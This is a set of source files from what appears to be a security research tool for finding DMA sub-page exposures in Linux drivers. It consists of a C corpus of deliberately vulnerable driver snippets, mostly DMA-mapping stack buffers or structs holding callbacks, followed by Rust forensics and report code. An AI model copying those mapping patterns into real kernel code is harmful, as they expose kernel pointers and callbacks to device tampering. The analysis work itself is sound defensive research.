struct bnx2x_fastpath {
	struct net_device *netdev;
	__u32 rx_buf_size;
};

static int bnx2x_alloc_rx_sge(struct device *dev, struct bnx2x_fastpath *fp)
{
	struct sk_buff *skb;
	dma_addr_t dma;
	skb = netdev_alloc_skb(fp->netdev, 65536);
	dma = dma_map_single(dev, skb->data, 65536, DMA_FROM_DEVICE);
	return 0;
}
