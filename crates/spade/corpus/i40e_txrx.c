/* Modeled on drivers/net/ethernet/intel/i40e/i40e_txrx.c: RX buffers
 * come from page_frag carvings (netdev_alloc_skb), the whole data page
 * is mapped for the device, and the sk_buff is built BEFORE the buffer
 * is unmapped — Figure 7 path (i). */

struct i40e_rx_buffer {
	dma_addr_t dma;
	struct sk_buff *skb;
	struct page *page;
	__u32 page_offset;
};

struct i40e_ring {
	void *desc;
	struct net_device *netdev;
	struct i40e_rx_buffer *rx_bi;
	__u16 count;
	__u16 next_to_use;
};

static int i40e_alloc_rx_buffers(struct device *dev, struct i40e_ring *ring, int cleaned)
{
	struct sk_buff *skb;
	struct i40e_rx_buffer *bi;
	skb = netdev_alloc_skb(ring->netdev, 2048);
	bi->skb = skb;
	bi->dma = dma_map_single(dev, skb->data, 2048, DMA_FROM_DEVICE);
	return 0;
}

static netdev_tx_t i40e_xmit_frame(struct device *dev, struct sk_buff *skb)
{
	dma_addr_t dma;
	dma = dma_map_single(dev, skb->data, skb->len, DMA_TO_DEVICE);
	return 0;
}
