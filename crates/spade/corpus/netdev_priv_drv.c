/* A NIC driver mapping its netdev private area for a firmware DMA
 * handshake, exposing net_device metadata. */
static int fw_handshake(struct device *dev, struct net_device *nd)
{
	void *priv;
	dma_addr_t dma;
	priv = netdev_priv(nd);
	dma = dma_map_single(dev, priv, 512, DMA_BIDIRECTIONAL);
	return 0;
}
