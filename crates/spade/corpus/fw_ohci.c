/* Modeled on drivers/firewire/ohci.c: the AR (asynchronous receive)
 * context descriptor is embedded in a driver struct that also carries
 * completion callbacks — a type (a) exposure. */

struct fw_ohci_context {
	char descriptor[64];
	void (*callback)(struct fw_ohci_context *ctx);
	void (*release)(struct fw_ohci_context *ctx);
	__u32 regs;
};

static int ar_context_init(struct device *dev, struct fw_ohci_context *ctx)
{
	dma_addr_t dma;
	dma = dma_map_single(dev, &ctx->descriptor, 64, DMA_BIDIRECTIONAL);
	return 0;
}
