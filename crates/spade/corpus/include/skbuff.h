/* Minimal Linux-5.0-style networking headers for the SPADE corpus.
 * Byte layout of skb_shared_info mirrors the simulator (sim-net). */

struct page {
	unsigned long flags;
	atomic_t refcount;
};

struct ubuf_info {
	void (*callback)(struct ubuf_info *, bool);
	void *ctx;
	__u64 desc;
};

struct skb_frag_t {
	struct page *page;
	__u32 page_offset;
	__u32 size;
};

struct skb_shared_hwtstamps {
	__u64 hwtstamp;
};

struct skb_shared_info {
	__u8 nr_frags;
	__u8 tx_flags;
	__u16 gso_size;
	__u16 gso_segs;
	__u16 gso_type;
	struct sk_buff *frag_list;
	struct skb_shared_hwtstamps hwtstamps;
	__u32 tskey;
	__u32 ip6_frag_id;
	atomic_t dataref;
	void *destructor_arg;
	struct skb_frag_t frags[17];
};

struct sk_buff {
	struct sk_buff *next;
	struct sk_buff *prev;
	struct sock *sk;
	unsigned int len;
	unsigned int data_len;
	unsigned char *head;
	unsigned char *data;
	unsigned char *tail;
	unsigned char *end;
	void (*destructor)(struct sk_buff *skb);
};

struct net_device_ops {
	int (*ndo_open)(struct net_device *dev);
	int (*ndo_stop)(struct net_device *dev);
	netdev_tx_t (*ndo_start_xmit)(struct sk_buff *skb, struct net_device *dev);
	void (*ndo_set_rx_mode)(struct net_device *dev);
	int (*ndo_set_mac_address)(struct net_device *dev, void *addr);
	int (*ndo_do_ioctl)(struct net_device *dev, int cmd);
	int (*ndo_change_mtu)(struct net_device *dev, int new_mtu);
	void (*ndo_tx_timeout)(struct net_device *dev);
};

struct net_device {
	char name[16];
	unsigned long state;
	const struct net_device_ops *netdev_ops;
	unsigned int mtu;
	unsigned char *dev_addr;
};
