/* Modeled on SCSI LLDs that DMA-map per-command private data obtained
 * via scsi_cmd_priv(). */

struct scsi_cmnd {
	void *device;
	void (*scsi_done)(struct scsi_cmnd *cmd);
	unsigned char *cmnd;
	int result;
};

static int snic_queue_cmd(struct device *dev, struct scsi_cmnd *sc)
{
	void *priv;
	dma_addr_t dma;
	priv = scsi_cmd_priv(sc);
	dma = dma_map_single(dev, priv, 192, DMA_BIDIRECTIONAL);
	return 0;
}
