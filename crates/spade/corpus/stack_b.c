static int legacy_reset_b(struct device *dev)
{
	char cmd[16];
	dma_addr_t dma;
	dma = dma_map_single(dev, cmd, 16, DMA_TO_DEVICE);
	return 0;
}
