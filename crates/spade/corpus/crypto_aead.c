/* Modeled on crypto drivers that DMA-map the aead request context —
 * a private region co-located with request metadata. */

struct aead_request {
	unsigned int cryptlen;
	unsigned int assoclen;
	void (*complete)(struct aead_request *req, int err);
	void *iv;
};

static int ccp_aead_run(struct device *dev, struct aead_request *req)
{
	void *ctx;
	dma_addr_t dma;
	ctx = aead_request_ctx(req);
	dma = dma_map_single(dev, ctx, 128, DMA_BIDIRECTIONAL);
	return 0;
}
