/* Modeled on drivers/net/virtio_net.c mergeable-buffer paths: whole
 * pages are handed to the device via dma_map_page-style calls. Page-
 * granular buffers avoid type (a)/(c) — the "clean" pattern. */

struct virtnet_rq {
	struct net_device *netdev;
	void *vq;
	unsigned int min_buf_len;
};

static int virtnet_add_recvbuf_page(struct device *dev, struct virtnet_rq *rq)
{
	struct page *page;
	dma_addr_t dma;
	page = alloc_page(GFP_ATOMIC);
	dma = dma_map_page(dev, page, 0, 4096, DMA_FROM_DEVICE);
	return 0;
}

static int virtnet_send_command(struct device *dev, struct virtnet_rq *rq)
{
	void *hdr;
	dma_addr_t dma;
	hdr = kzalloc(64, GFP_KERNEL);
	dma = dma_map_single(dev, hdr, 64, DMA_TO_DEVICE);
	return 0;
}
