/* A driver mapping an on-stack command block (the paper found 3 such
 * call sites in 3 files). */
static int legacy_probe_a(struct device *dev)
{
	char inquiry[36];
	dma_addr_t dma;
	dma = dma_map_single(dev, inquiry, 36, DMA_TO_DEVICE);
	return 0;
}
