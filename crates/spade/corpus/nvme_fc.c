/* Modeled on drivers/nvme/host/fc.c (Linux 5.0): the Figure-2 finding.
 * The response IU buffer is embedded in struct nvme_fc_fcp_op, so the
 * dma_map_single of &op->rsp_iu exposes the whole op — including the
 * fcp_req.done completion callback — to the device. */

struct nvmefc_fcp_req {
	void *cmdaddr;
	void *rspaddr;
	__u32 cmdlen;
	__u32 rsplen;
	__u32 payload_length;
	__u32 transferred_length;
	__u16 status;
	void (*done)(struct nvmefc_fcp_req *req);
	void *private;
};

struct nvme_fc_cmd_iu {
	__u8 scsi_id;
	__u8 fc_id;
	__u16 iu_len;
	__u32 connection_id;
	__u32 csn;
	__u8 rsvd[84];
};

struct nvme_fc_ersp_iu {
	__u8 status_code;
	__u8 rsvd1;
	__u16 iu_len;
	__u32 rsn;
	__u32 xfrd_len;
	__u8 rsvd2[84];
};

struct nvme_fc_port_template {
	void (*localport_delete)(struct nvme_fc_local_port *port);
	void (*remoteport_delete)(struct nvme_fc_remote_port *port);
	int (*create_queue)(struct nvme_fc_local_port *port, unsigned int qidx, __u16 qsize);
	void (*delete_queue)(struct nvme_fc_local_port *port, unsigned int qidx);
	int (*ls_req)(struct nvme_fc_local_port *port, struct nvme_fc_remote_port *rport);
	int (*fcp_io)(struct nvme_fc_local_port *port, struct nvme_fc_remote_port *rport);
	void (*ls_abort)(struct nvme_fc_local_port *port, struct nvme_fc_remote_port *rport);
	void (*fcp_abort)(struct nvme_fc_local_port *port, struct nvme_fc_remote_port *rport);
	int (*xmt_ls_rsp)(struct nvme_fc_local_port *port);
	void (*map_queues)(struct nvme_fc_local_port *port);
	__u32 max_hw_queues;
	__u16 max_sgl_segments;
	__u16 max_dif_sgl_segments;
	__u64 dma_boundary;
};

struct nvme_fc_local_port {
	__u32 port_num;
	__u32 port_role;
	__u64 node_name;
	__u64 port_name;
	struct nvme_fc_port_template *ops;
	void *private;
};

struct nvme_fc_remote_port {
	__u32 port_num;
	__u32 port_role;
	__u64 node_name;
	__u64 port_name;
	struct nvme_fc_port_template *ops;
	void *private;
};

struct blk_mq_ops {
	int (*queue_rq)(void *hctx, void *bd);
	void (*commit_rqs)(void *hctx);
	int (*get_budget)(void *q);
	void (*put_budget)(void *q);
	void (*timeout)(void *req);
	int (*poll)(void *hctx);
	void (*complete)(void *req);
	int (*init_hctx)(void *hctx, void *data, unsigned int idx);
	void (*exit_hctx)(void *hctx, unsigned int idx);
	int (*init_request)(void *set, void *req, unsigned int idx);
	void (*exit_request)(void *set, void *req, unsigned int idx);
	int (*map_queues)(void *set);
};

struct blk_mq_tag_set {
	struct blk_mq_ops *ops;
	unsigned int nr_hw_queues;
	unsigned int queue_depth;
	void *driver_data;
};

struct request_queue {
	void *queuedata;
	struct blk_mq_ops *mq_ops;
	struct blk_mq_tag_set *tag_set;
	struct device_t *dev;
	void (*release)(struct request_queue *q);
	unsigned long queue_flags;
};

struct nvme_ctrl_ops {
	const char *name;
	int (*reg_read32)(struct nvme_ctrl_t *ctrl, __u32 off, __u32 *val);
	int (*reg_write32)(struct nvme_ctrl_t *ctrl, __u32 off, __u32 val);
	int (*reg_read64)(struct nvme_ctrl_t *ctrl, __u32 off, __u64 *val);
	void (*free_ctrl)(struct nvme_ctrl_t *ctrl);
	void (*submit_async_event)(struct nvme_ctrl_t *ctrl);
	void (*delete_ctrl)(struct nvme_ctrl_t *ctrl);
	int (*get_address)(struct nvme_ctrl_t *ctrl, char *buf, int size);
};

struct nvme_ctrl_t {
	unsigned long state;
	struct nvme_ctrl_ops *ops;
	struct request_queue *admin_q;
	struct request_queue *connect_q;
	struct blk_mq_tag_set *tagset;
	struct blk_mq_tag_set *admin_tagset;
	__u32 queue_count;
	void (*remove_work)(void *w);
};

struct nvme_fc_ctrl {
	struct nvme_fc_local_port *lport;
	struct nvme_fc_remote_port *rport;
	struct nvme_ctrl_t *ctrl;
	struct device_t *dev;
	struct blk_mq_hw_ctx_t *hctx;
	__u32 cnum;
	__u32 iocnt;
	struct request_queue *rq;
	struct blk_mq_tag_set tag_set;
};

struct nvme_fc_queue_t {
	struct nvme_fc_ctrl *ctrl;
	struct device_t *dev;
	struct blk_mq_hw_ctx_t *hctx;
	struct nvme_fc_local_port *lport;
	__u64 connection_id;
	__u32 qnum;
};

struct dev_pm_ops_t {
	int (*prepare)(struct device_t *dev);
	void (*complete)(struct device_t *dev);
	int (*suspend)(struct device_t *dev);
	int (*resume)(struct device_t *dev);
	int (*freeze)(struct device_t *dev);
	int (*thaw)(struct device_t *dev);
	int (*poweroff)(struct device_t *dev);
	int (*restore)(struct device_t *dev);
	int (*suspend_late)(struct device_t *dev);
	int (*resume_early)(struct device_t *dev);
	int (*freeze_late)(struct device_t *dev);
	int (*thaw_early)(struct device_t *dev);
	int (*suspend_noirq)(struct device_t *dev);
	int (*resume_noirq)(struct device_t *dev);
	int (*freeze_noirq)(struct device_t *dev);
	int (*thaw_noirq)(struct device_t *dev);
	int (*poweroff_noirq)(struct device_t *dev);
	int (*restore_noirq)(struct device_t *dev);
	int (*runtime_suspend)(struct device_t *dev);
	int (*runtime_resume)(struct device_t *dev);
	int (*runtime_idle)(struct device_t *dev);
};

struct device_driver_t {
	const char *name;
	struct dev_pm_ops_t *pm;
	int (*probe)(struct device_t *dev);
	int (*remove)(struct device_t *dev);
	void (*shutdown)(struct device_t *dev);
	int (*suspend)(struct device_t *dev);
	int (*resume)(struct device_t *dev);
};

struct device_t {
	struct device_t *parent;
	struct device_driver_t *driver;
	void (*release)(struct device_t *dev);
	void *driver_data;
};

struct blk_mq_hw_ctx_t {
	struct blk_mq_ops *ops;
	struct request_queue *queue;
	void *driver_data;
	unsigned int queue_num;
};

struct request_t {
	struct blk_mq_hw_ctx_t *mq_hctx;
	void (*end_io)(struct request_t *rq, int error);
	void *end_io_data;
	__u32 tag;
};

struct nvme_fc_fcp_op {
	struct nvmefc_fcp_req fcp_req;
	struct nvme_fc_ctrl *ctrl;
	struct nvme_fc_queue_t *queue;
	struct request_t *rq;
	struct nvme_fc_cmd_iu cmd_iu;
	struct nvme_fc_ersp_iu rsp_iu;
	dma_addr_t fcp_req_cmddma;
	dma_addr_t fcp_req_rspdma;
	__u32 rqno;
	__u16 opstate;
};

static int
nvme_fc_init_request(struct device *dev, struct nvme_fc_fcp_op *op)
{
	op->fcp_req_cmddma = dma_map_single(dev, &op->cmd_iu, 96, DMA_TO_DEVICE);
	op->fcp_req_rspdma = dma_map_single(dev, &op->rsp_iu, 96, DMA_BIDIRECTIONAL);
	return 0;
}
