static int legacy_sense_c(struct device *dev)
{
	char sense[64];
	dma_addr_t dma;
	dma = dma_map_single(dev, sense, 64, DMA_BIDIRECTIONAL);
	return 0;
}
