//! Prints the Figure-2 callback census for the nvme_fc exemplar:
//! the direct and spoofable counts SPADE reports on the corpus's
//! `struct nvme_fc_fcp_op` (paper: 1 direct, 931 spoofable).
//!
//! Run with: `cargo run -p spade --example census`

fn main() {
    let corpus = spade::corpus::full_corpus(&spade::corpus::CorpusMix::default(), 1);
    let tree = spade::xref::SourceTree::load(corpus.iter().map(|(p, s)| (p.as_str(), s.as_str())));
    println!(
        "direct(nvme_fc_fcp_op)   = {}",
        tree.types.direct_callbacks("nvme_fc_fcp_op")
    );
    println!(
        "spoofable(nvme_fc_fcp_op,6) = {}  [paper: 931]",
        tree.types.spoofable_callbacks("nvme_fc_fcp_op", 6)
    );
    println!(
        "heap_ptrs(nvme_fc_fcp_op) = {}",
        tree.types.heap_pointers("nvme_fc_fcp_op")
    );
}
