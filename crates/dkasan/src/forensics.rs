//! The forensics engine: from a [`DKasanFinding`] to a causal incident
//! timeline.
//!
//! D-KASAN's report line says *what* leaked (size, rights, site); the
//! incident report says *why*: it locates the finding's trigger event
//! in the [`ProvenanceGraph`], walks the causal ancestry backward, and
//! renders a cycle-stamped timeline naming the co-resident objects,
//! the mapping site that exposed the page, the Figure-1 taxonomy class,
//! and whether the offending access needed a §5.2 stale-IOTLB window or
//! rode a standing exposure.

use dma_core::clock::Cycles;
use dma_core::provenance::{EdgeKind, ProvenanceGraph};
use dma_core::vuln::SubPageVulnerability;
use dma_core::Event;

use crate::report::{DKasanFinding, FindingKind};

/// One rendered step of an incident timeline.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct IncidentStep {
    /// Simulated cycle of the step's event.
    pub at: Cycles,
    /// Human-readable description of the event.
    pub what: String,
    /// The causal edge through which this step entered the ancestry
    /// (empty for the trigger event itself).
    pub edge: String,
}

/// The §5.2 verdict for an incident: did the offending access need a
/// race window, and which one?
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum WindowVerdict {
    /// A device access was served by a stale IOTLB translation after
    /// unmap — the §5.2.1 deferred-invalidation window.
    StaleIotlb,
    /// The page stayed mapped through a co-located buffer's IOVA
    /// (§5.2.2 path (iii)); no stale entry required.
    NeighborIova,
    /// The exposure was standing — object and mapping were simply live
    /// at the same time; no §5.2 window was required at all.
    StandingExposure,
}

impl core::fmt::Display for WindowVerdict {
    fn fmt(&self, f: &mut core::fmt::Formatter<'_>) -> core::fmt::Result {
        f.write_str(match self {
            WindowVerdict::StaleIotlb => {
                "window (ii) deferred IOTLB invalidation (stale entry, \u{a7}5.2.1)"
            }
            WindowVerdict::NeighborIova => "window (iii) co-located buffer IOVA (\u{a7}5.2.2)",
            WindowVerdict::StandingExposure => {
                "standing exposure (no \u{a7}5.2 race window required)"
            }
        })
    }
}

/// A fully-investigated finding: the causal story behind one D-KASAN
/// report line.
#[derive(Clone, Debug)]
pub struct Incident {
    /// The finding under investigation.
    pub finding: DKasanFinding,
    /// Figure-1 taxonomy class, derived from the causal chain (kmalloc
    /// co-location → type (d); driver-owned page sharing → type (a);
    /// CPU-side metadata access → type (b); double mapping → type (c)).
    pub taxonomy: SubPageVulnerability,
    /// §5.2 verdict.
    pub window: WindowVerdict,
    /// DMA-map call sites that exposed the page, in first-seen order.
    pub mapping_sites: Vec<&'static str>,
    /// Objects co-resident on the page up to the trigger cycle:
    /// (allocation site, size).
    pub co_resident: Vec<(&'static str, usize)>,
    /// Cycle-ordered causal timeline ending at the trigger event.
    pub steps: Vec<IncidentStep>,
}

/// Renders one event the way incident timelines and corpus causal
/// chains print it.
pub fn describe_event(ev: &Event) -> String {
    match *ev {
        Event::Alloc {
            kva,
            size,
            site,
            cache,
            ..
        } => format!("alloc {size} B at {site} ({cache}) kva {kva}"),
        Event::Free { kva, .. } => format!("free kva {kva}"),
        Event::PageAlloc {
            pfn, order, site, ..
        } => format!("page alloc pfn {pfn} order {order} at {site}"),
        Event::PageFree { pfn, order, .. } => format!("page free pfn {pfn} order {order}"),
        Event::DmaMap {
            device,
            iova,
            kva,
            len,
            site,
            ..
        } => format!("dma_map dev {device} iova {iova} -> kva {kva} len {len} at {site}"),
        Event::DmaUnmap {
            device, iova, len, ..
        } => format!("dma_unmap dev {device} iova {iova} len {len}"),
        Event::CpuAccess {
            kva,
            len,
            write,
            site,
            ..
        } => format!(
            "cpu {} {len} B kva {kva} at {site}",
            if write { "write" } else { "read" }
        ),
        Event::DevAccess {
            device,
            iova,
            len,
            write,
            allowed,
            stale,
            ..
        } => format!(
            "device {device} {} {len} B iova {iova}{}{}",
            if write { "write" } else { "read" },
            if stale { " [STALE IOTLB]" } else { "" },
            if allowed { "" } else { " [BLOCKED]" }
        ),
        Event::IotlbInvalidate {
            device, iova_page, ..
        } => format!("iotlb invalidate dev {device} page {iova_page}"),
        Event::IotlbGlobalFlush { dropped, .. } => {
            format!("iotlb global flush ({dropped} entries dropped)")
        }
        Event::FaultInjected { site, .. } => format!("fault injected at {site}"),
    }
}

/// Finds the graph index of the event that triggered `finding`, by
/// class, cycle, and page. Falls back to the last page-touching event
/// at or before the finding's cycle.
fn locate_trigger(graph: &ProvenanceGraph, finding: &DKasanFinding) -> Option<usize> {
    let on_page = graph.events_touching_page(finding.page);
    let exact = on_page.iter().rev().find(|&&i| {
        let ev = graph.event(i);
        if ev.at() != finding.at {
            return false;
        }
        match (finding.kind, ev) {
            (FindingKind::AllocAfterMap, Event::Alloc { site, .. }) => *site == finding.site,
            (FindingKind::MapAfterAlloc, Event::DmaMap { .. }) => true,
            (FindingKind::MultipleMap, Event::DmaMap { site, .. }) => *site == finding.site,
            (FindingKind::AccessAfterMap, Event::CpuAccess { site, .. }) => *site == finding.site,
            _ => false,
        }
    });
    exact
        .or_else(|| {
            on_page
                .iter()
                .rev()
                .find(|&&i| graph.event(i).at() <= finding.at)
        })
        .copied()
}

fn taxonomy_for(
    finding: &DKasanFinding,
    graph: &ProvenanceGraph,
    trigger: Option<usize>,
) -> SubPageVulnerability {
    match finding.kind {
        FindingKind::MultipleMap => SubPageVulnerability::MultipleIova,
        FindingKind::AccessAfterMap => SubPageVulnerability::OsMetadata,
        FindingKind::AllocAfterMap | FindingKind::MapAfterAlloc => {
            // The finding's named site is the *allocation* site; its
            // cache tells driver-owned sharing (page frags, per-buffer
            // pages) apart from random slab co-location.
            let cache = graph
                .events_touching_page(finding.page)
                .iter()
                .chain(trigger.iter())
                .filter_map(|&i| match graph.event(i) {
                    Event::Alloc { site, cache, .. } if *site == finding.site => Some(*cache),
                    _ => None,
                })
                .next_back();
            match cache {
                Some(c) if c.starts_with("kmalloc") => SubPageVulnerability::RandomColocation,
                Some(_) => SubPageVulnerability::DriverMetadata,
                None => SubPageVulnerability::RandomColocation,
            }
        }
    }
}

/// Investigates one finding against the graph: locates the trigger,
/// walks ancestry, and assembles the incident.
pub fn investigate(graph: &ProvenanceGraph, finding: &DKasanFinding) -> Incident {
    let trigger = locate_trigger(graph, finding);
    let mut raw: Vec<(usize, String)> = Vec::new();
    if let Some(t) = trigger {
        raw.push((t, String::new()));
        for (idx, kind) in graph.ancestry(t) {
            raw.push((idx, kind.to_string()));
        }
    }
    raw.sort_by_key(|&(idx, _)| idx);
    let steps: Vec<IncidentStep> = raw
        .iter()
        .map(|(idx, edge)| IncidentStep {
            at: graph.event(*idx).at(),
            what: describe_event(graph.event(*idx)),
            edge: edge.clone(),
        })
        .collect();

    // Page context: mapping sites and co-resident objects up to the
    // trigger cycle (or the finding cycle when no trigger was located).
    let horizon = trigger.map(|t| graph.event(t).at()).unwrap_or(finding.at);
    let mut mapping_sites: Vec<&'static str> = Vec::new();
    let mut co_resident: Vec<(&'static str, usize)> = Vec::new();
    for &i in graph.events_touching_page(finding.page) {
        let ev = graph.event(i);
        if ev.at() > horizon {
            break;
        }
        match ev {
            Event::DmaMap { site, .. } if !mapping_sites.contains(site) => {
                mapping_sites.push(site);
            }
            Event::Alloc { site, size, .. } if !co_resident.contains(&(*site, *size)) => {
                co_resident.push((*site, *size));
            }
            _ => {}
        }
    }

    // §5.2 verdict: a stale device access anywhere in the ancestry (or
    // on the page) means the deferred-invalidation window was in play.
    let ancestors: Vec<usize> = trigger
        .map(|t| {
            let mut v: Vec<usize> = graph.ancestry(t).iter().map(|&(i, _)| i).collect();
            v.push(t);
            v
        })
        .unwrap_or_default();
    let saw_stale = ancestors
        .iter()
        .chain(graph.events_touching_page(finding.page).iter())
        .any(|&i| {
            matches!(graph.event(i), Event::DevAccess { stale: true, .. })
                || graph
                    .parents(i)
                    .iter()
                    .any(|&(_, k)| k == EdgeKind::StaleTranslation)
        });
    let window = if saw_stale {
        WindowVerdict::StaleIotlb
    } else if finding.kind == FindingKind::MultipleMap {
        WindowVerdict::NeighborIova
    } else {
        WindowVerdict::StandingExposure
    };

    Incident {
        taxonomy: taxonomy_for(finding, graph, trigger),
        finding: finding.clone(),
        window,
        mapping_sites,
        co_resident,
        steps,
    }
}

impl Incident {
    /// Renders the incident block: header, context lines, timeline.
    pub fn render(&self, index: usize) -> String {
        use std::fmt::Write;
        let mut s = String::new();
        let _ = writeln!(
            s,
            "incident [{index}] {} — {} (size {}, rights [{}]) on page {:#x} at cycle {}",
            self.finding.id(),
            self.finding.kind,
            self.finding.size,
            self.finding.rights,
            self.finding.page,
            self.finding.at
        );
        let _ = writeln!(s, "  taxonomy:  {}", self.taxonomy);
        let _ = writeln!(s, "  window:    {}", self.window);
        let _ = writeln!(
            s,
            "  alloc site: {}   mapping sites: {}",
            self.finding.site,
            if self.mapping_sites.is_empty() {
                "(none live)".to_string()
            } else {
                self.mapping_sites.join(", ")
            }
        );
        if !self.co_resident.is_empty() {
            let objs: Vec<String> = self
                .co_resident
                .iter()
                .map(|(site, size)| format!("{site} ({size} B)"))
                .collect();
            let _ = writeln!(s, "  co-resident objects: {}", objs.join(", "));
        }
        let _ = writeln!(s, "  timeline:");
        for step in &self.steps {
            if step.edge.is_empty() {
                let _ = writeln!(s, "    cycle {:>8}  {}", step.at, step.what);
            } else {
                let _ = writeln!(
                    s,
                    "    cycle {:>8}  {}  [{}]",
                    step.at, step.what, step.edge
                );
            }
        }
        s
    }

    /// One-line causal chain (corpus annotations): oldest → trigger.
    pub fn chain(&self) -> String {
        self.steps
            .iter()
            .map(|s| format!("{}@{}", s.what, s.at))
            .collect::<Vec<_>>()
            .join(" -> ")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::DKasan;
    use dma_core::vuln::DmaDirection;
    use dma_core::{Iova, Kva};

    const PAGE: u64 = 0xffff_8880_0030_0000;

    fn exposure_stream() -> Vec<Event> {
        vec![
            Event::DmaMap {
                at: 10,
                device: 1,
                iova: Iova(0xf000),
                kva: Kva(PAGE),
                len: 2048,
                dir: DmaDirection::FromDevice,
                site: "nic_rx_map",
            },
            Event::Alloc {
                at: 14,
                kva: Kva(PAGE + 2048),
                size: 512,
                site: "load_elf_phdrs",
                cache: "kmalloc-512",
            },
        ]
    }

    #[test]
    fn incident_names_site_map_taxonomy_and_window() {
        let evs = exposure_stream();
        let mut dk = DKasan::new();
        dk.process(&evs);
        let mut graph = ProvenanceGraph::new();
        graph.ingest_all(evs);
        let f = dk.findings_of(FindingKind::AllocAfterMap)[0].clone();
        let inc = investigate(&graph, &f);
        assert_eq!(inc.taxonomy, SubPageVulnerability::RandomColocation);
        assert_eq!(inc.window, WindowVerdict::StandingExposure);
        assert_eq!(inc.mapping_sites, vec!["nic_rx_map"]);
        assert_eq!(inc.steps.len(), 2, "trigger + its causal map");
        let text = inc.render(1);
        assert!(text.contains("alloc-after-map"), "{text}");
        assert!(text.contains("load_elf_phdrs"), "{text}");
        assert!(text.contains("nic_rx_map"), "{text}");
        assert!(text.contains("type (d)"), "{text}");
        assert!(text.contains("standing exposure"), "{text}");
        assert!(text.contains(&f.id()), "{text}");
    }

    #[test]
    fn stale_device_write_yields_the_521_verdict() {
        let mut evs = exposure_stream();
        evs.push(Event::DmaUnmap {
            at: 20,
            device: 1,
            iova: Iova(0xf000),
            len: 2048,
        });
        evs.push(Event::DevAccess {
            at: 25,
            device: 1,
            iova: Iova(0xf040),
            len: 8,
            write: true,
            allowed: true,
            stale: true,
        });
        let mut dk = DKasan::new();
        dk.process(&evs);
        let mut graph = ProvenanceGraph::new();
        graph.ingest_all(evs);
        let f = dk.findings_of(FindingKind::AllocAfterMap)[0].clone();
        let inc = investigate(&graph, &f);
        assert_eq!(inc.window, WindowVerdict::StaleIotlb);
        assert!(inc.render(1).contains("window (ii)"));
    }

    #[test]
    fn page_frag_colocations_classify_as_driver_metadata() {
        let evs = vec![
            Event::Alloc {
                at: 1,
                kva: Kva(PAGE),
                size: 640,
                site: "netdev_alloc_frag",
                cache: "page_frag",
            },
            Event::DmaMap {
                at: 2,
                device: 1,
                iova: Iova(0xf000),
                kva: Kva(PAGE + 640),
                len: 640,
                dir: DmaDirection::FromDevice,
                site: "nic_rx_map",
            },
        ];
        let mut dk = DKasan::new();
        dk.process(&evs);
        let mut graph = ProvenanceGraph::new();
        graph.ingest_all(evs);
        let f = dk.findings_of(FindingKind::MapAfterAlloc)[0].clone();
        let inc = investigate(&graph, &f);
        assert_eq!(inc.taxonomy, SubPageVulnerability::DriverMetadata);
        assert!(inc.render(1).contains("type (a)"));
    }

    #[test]
    fn investigation_is_deterministic() {
        let run = || {
            let evs = exposure_stream();
            let mut dk = DKasan::new();
            dk.process(&evs);
            let mut graph = ProvenanceGraph::new();
            graph.ingest_all(evs);
            dk.findings()
                .iter()
                .map(|f| investigate(&graph, f).render(0))
                .collect::<Vec<_>>()
        };
        assert_eq!(run(), run());
    }
}
