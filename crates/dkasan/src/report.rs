//! D-KASAN findings and their Figure-3 rendering.
//!
//! Each report line shows "the size of the allocated buffer, the DMA
//! access type, and the allocating location":
//!
//! ```text
//! [1] size 512 [READ, WRITE] __alloc_skb+0xe0/0x3f0
//! ```

use dma_core::clock::Cycles;
use dma_core::vuln::AccessRight;

/// The four report classes of §4.2.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum FindingKind {
    /// A kmalloc object was allocated from a mapped page.
    AllocAfterMap,
    /// The containing page was mapped after an object was allocated.
    MapAfterAlloc,
    /// The CPU accessed a DMA-mapped page.
    AccessAfterMap,
    /// An object/page mapped multiple times, possibly with different
    /// permissions.
    MultipleMap,
}

impl FindingKind {
    /// Every report class, in a fixed order (metric export, summaries).
    pub const ALL: [FindingKind; 4] = [
        FindingKind::AllocAfterMap,
        FindingKind::MapAfterAlloc,
        FindingKind::AccessAfterMap,
        FindingKind::MultipleMap,
    ];

    /// Dotted metric name for this class, following the
    /// `subsystem.metric` taxonomy of `dma_core::metrics`.
    pub fn metric_name(&self) -> &'static str {
        match self {
            FindingKind::AllocAfterMap => "dkasan.findings.alloc_after_map",
            FindingKind::MapAfterAlloc => "dkasan.findings.map_after_alloc",
            FindingKind::AccessAfterMap => "dkasan.findings.access_after_map",
            FindingKind::MultipleMap => "dkasan.findings.multiple_map",
        }
    }
}

impl std::fmt::Display for FindingKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            FindingKind::AllocAfterMap => write!(f, "alloc-after-map"),
            FindingKind::MapAfterAlloc => write!(f, "map-after-alloc"),
            FindingKind::AccessAfterMap => write!(f, "access-after-map"),
            FindingKind::MultipleMap => write!(f, "multiple-map"),
        }
    }
}

/// Deterministic stable identifier: sequential FNV-1a-64 over `parts`
/// (no separators), rendered as `<prefix>-<16 hex digits>`.
///
/// This is the id scheme shared by D-KASAN findings (`dk-…`) and the
/// fuzz campaign's quarantined crash/hang findings (`dq-…`): tools and
/// humans cross-reference findings by these ids instead of array
/// positions, and the hash is a pure function of its inputs, so the id
/// survives re-runs, resumes, and replays.
pub fn stable_id(prefix: &str, parts: &[&[u8]]) -> String {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for part in parts {
        for &b in *part {
            h ^= b as u64;
            h = h.wrapping_mul(0x0000_0100_0000_01b3);
        }
    }
    format!("{prefix}-{h:016x}")
}

/// Stable `dk-…` id for a device-write *observation* that has no
/// backing [`DKasanFinding`] (the fuzz executor records tampered-field
/// writes the shadow oracle never sees). A pure function of the class
/// identity — taxonomy letter, site/field name, and the §5.2 window
/// path when one applies — so the finding-stream id emitted by
/// `dma-lab serve` is identical across runs, resumes, and replays of
/// the same discovery.
pub fn observation_id(taxonomy: char, site: &str, window: &str) -> String {
    stable_id(
        "dk",
        &[&[taxonomy as u8], site.as_bytes(), window.as_bytes()],
    )
}

/// One D-KASAN finding.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct DKasanFinding {
    /// Report class.
    pub kind: FindingKind,
    /// Size of the exposed object / access.
    pub size: usize,
    /// DMA rights the device holds over the page.
    pub rights: AccessRight,
    /// Allocating (or accessing) location.
    pub site: &'static str,
    /// Page base (direct-map KVA) of the exposure.
